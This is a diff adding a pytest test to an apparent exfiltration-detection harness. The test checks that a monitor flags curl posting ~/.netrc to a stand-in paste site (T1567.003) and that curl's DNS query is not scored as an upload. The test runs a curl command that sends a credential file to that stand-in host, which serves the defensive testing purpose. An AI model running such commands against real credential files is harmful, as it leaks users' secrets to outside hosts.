@@ -91,3 +91,23 @@ def test_scp_of_the_key_itself_alerts_with_the_address(sshd, monitor, fake_home)
     alert = found[-1]
     assert get(alert, "destination.ip") == "127.0.0.1"
     assert "id_rsa" in get(alert, "event.reason")
+
+
+def test_dns_queries_are_never_uploads(monitor, standin, resolver, fake_home, tmp_path):
+    """curl resolves the paste site through a resolver, then posts ~/.netrc: the post alerts
+    (T1567.003); curl's query to the resolver, after the same read, is not an upload."""
+    from harness.config import DNS_ADDRESS, DNS_NAME, HTTP_PORT, RESOLVER_ADDRESS
+    view = resolver.view(tmp_path / "dnsview")
+    result = view.run(["curl", "-s", "-o", "/dev/null", "--data-binary", f"@{fake_home.path / '.netrc'}",
+                       f"http://{DNS_NAME}:{HTTP_PORT}/"], env=fake_home.env())
+    assert result.returncode == 0, result.stderr
+    standin.wait_for_request(lambda r: r.get("listener") == f"http:{DNS_ADDRESS}:{HTTP_PORT}")
+    monitor.wait_for(lambda r: get(r, "event.action") == "flow-summary"
+                     and get(r, "destination.port") == 53 and get(r, "process.name") == "curl", 20,
+                     "curl's DNS query in the telemetry")
+    monitor.poll_for(lambda r: is_alert(r) and get(r, "destination.domain") == DNS_NAME, 20)
+    monitor.stop()
+    mine = [r for r in monitor.records() if is_alert(r) and get(r, "process.name") == "curl"]
+    assert_alert(mine, "T1567.003")
+    dns = [r for r in mine if get(r, "destination.port") == 53 or get(r, "destination.ip") == RESOLVER_ADDRESS]
+    assert not dns, f"a DNS query scored as an upload: {[get(r, 'event.reason') for r in dns]}"
